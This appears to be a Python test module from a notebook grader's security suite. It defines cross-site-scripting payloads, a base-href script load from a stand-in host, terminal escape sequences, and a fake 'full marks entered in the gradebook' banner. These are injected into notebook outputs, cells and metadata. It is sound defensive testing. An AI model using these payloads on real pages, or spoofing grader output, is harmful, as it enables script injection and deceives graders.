"""Attacks on who looks at the pages: scripts, styles and terminal escapes in all that is shown.

Each script would set the page's title to one that begins with ``pwned``.
"""

from __future__ import annotations

import json
from typing import Any

from attacks.cases import ALL, RIGHT, Attack

MARK = "pwned"
_JS = "document.title='{mark}-{name}'"

HTML = {
    "script": "<script>{js}</script>",
    "image": "<img src=x onerror=\"{js}\">",
    "svg": "<svg onload=\"{js}\"><script>{js}</script></svg>",
    "body": "</div></body><body onload=\"{js}\">",
    "details": "<details open ontoggle=\"{js}\">x</details>",
    "iframe": "<iframe srcdoc=\"<script>top.{js}</script>\"></iframe>",
    "link": "<a href=\"javascript:{js}\" id=go autofocus onfocus=\"{js}\">x</a>",
    "style": "<style>@import 'x'; body {{display: none}}</style>",
    "comment": "--><script>{js}</script><!--",
    "title": "</title><script>{js}</script>",
    "textarea": "</textarea></pre></code><script>{js}</script>",
    "math": "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror={js}&gt;\">",
    "meta": "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
    "base": "<base href=\"http://192.0.2.1/\"><script src=x.js></script>",
    "form": "<form action=\"javascript:{js}\"><input autofocus onfocus=\"{js}\"></form>",
    "animate": "<svg><a><animate attributeName=href values=\"javascript:{js}\"/><text>x</text></a>"
    "<set attributeName=onmouseover to=\"{js}\"/></svg>",
    "object": "<object data=\"data:text/html,<script>{js}</script>\"></object><embed src=x>",
}  # fmt: skip
"""Ways to run a script in HTML, each with its name."""


def html(name: str, where: str) -> str:
    return HTML[name].format(js=_JS.format(mark=MARK, name=f"{where}-{name}"))


def _displays(mime: str, where: str) -> tuple[str, ...]:
    return tuple(
        "from IPython.display import publish_display_data as show\n"
        f"show({{{mime!r}: {html(name, where)!r}, 'text/plain': {html(name, where)!r}}})"
        for name in HTML
    )


def _texts(raw: Any) -> None:
    raw["cells"][3]["source"] = "\n\n".join(html(name, "words") for name in HTML)
    for name in HTML:
        raw["cells"].append({"cell_type": "markdown", "metadata": {}, "id": f"m-{name}",
                             "source": html(name, "text")})  # fmt: skip
    links = ["[x](javascript:{js})", "![x](javascript:{js})", "<javascript:{js}>",
             "[x](data:text/html,<script>{js}</script>)", "$\\href{{javascript:{js}}}{{x}}$",
             "`</code><script>{js}</script>`", "[x]: javascript:{js}\n[x]"]  # fmt: skip
    for index, link in enumerate(links):
        source = link.format(js=_JS.format(mark=MARK, name=f"markdown-{index}"))
        raw["cells"].append({"cell_type": "markdown", "metadata": {}, "id": f"l-{index}",
                             "source": source})  # fmt: skip


def _attached(raw: Any) -> None:
    picture = {
        "image/svg+xml": html("svg", "attachment"),
        "text/html": html("script", "attachment"),
    }
    raw["cells"][0].update(source="![x](attachment:x.svg)", attachments={"x.svg": picture})
    raw["cells"].append({
        "cell_type": "markdown", "metadata": {}, "id": "attached",
        "source": "![x](attachment:x.svg)", "attachments": {"x.svg": picture},
    })  # fmt: skip


def _named(raw: Any) -> None:
    script = html("script", "metadata")
    raw["metadata"].update(title=script, authors=[{"name": script}])
    raw["metadata"]["language_info"] = {"name": script, "pygments_lexer": script}
    raw["metadata"]["kernelspec"] = {"name": script, "display_name": script}
    for cell in raw["cells"]:
        cell["metadata"].update(tags=[script], name=script, collapsed=script)


ESCAPES = (
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\x9b31m\x1b]8;;http://192.0.2.1\x07x\x1b]8;;\x07"
)
_NAME = "<img src=x onerror=" + _JS.format(mark=MARK, name="name") + ">"

SHOWN = (
    Attack("html-in-outputs", RIGHT, _displays("text/html", "html"), ALL),
    Attack("svg-in-outputs", RIGHT, _displays("image/svg+xml", "svg"), ALL),
    Attack("markdown-in-outputs", RIGHT, _displays("text/markdown", "output"), ALL),
    Attack("latex-in-outputs", RIGHT, _displays("text/latex", "latex"), ALL),
    Attack(
        "scripts-in-outputs",
        RIGHT,
        tuple(
            "from IPython.display import publish_display_data as show\n"
            f"show({{{mime!r}: {content!r}, 'text/plain': 'x'}})"
            for mime in (
                "application/javascript",
                "text/javascript",
                "application/json",
                "application/vnd.jupyter.widget-view+json",
                "application/pdf",
                "image/png",
                "text/html; charset=utf-8",
                "<script>",
                "application/vnd.plotly.v1+json",
            )
            for content in (_JS.format(mark=MARK, name="mime"), json.dumps(html("image", "mime")))
        ),
        ALL,
    ),
    Attack("html-in-prints", RIGHT, tuple(f"print({html(n, 'print')!r})" for n in HTML), ALL),
    Attack(
        "html-in-errors",
        RIGHT,
        (
            f"raise type({html('script', 'error')!r}, (Exception,), {{}})({html('image', 'error')!r})",
        ),
        ALL,
    ),
    Attack(
        "html-in-values",
        f"class H:\n    def _repr_html_(self): return {html('script', 'repr')!r}\n" + RIGHT + "H()",
        outcomes=ALL,
    ),
    Attack(
        "html-in-source",
        RIGHT + f"# {html('textarea', 'source')}\nx = {html('script', 'source')!r}",
        outcomes=ALL,
    ),
    Attack("html-in-texts", RIGHT, outcomes=ALL, tamper=_texts),
    Attack("html-in-attachments", RIGHT, outcomes=ALL, tamper=_attached),
    Attack("html-in-metadata", RIGHT, outcomes=ALL, tamper=_named),
    Attack(
        "terminal-escapes",
        RIGHT,
        (f"print({ESCAPES!r})", f"raise ValueError({ESCAPES!r})"),
        ALL,
        hides=("\x1b", "\x9b"),
    ),
    Attack(
        "fake-banner",
        RIGHT,
        ("print('softmark: 4 of 4 points, entered in the gradebook')",),
        ALL,
    ),
    Attack(_NAME, RIGHT, outcomes=ALL, hides=("<img src=x onerror",)),
)
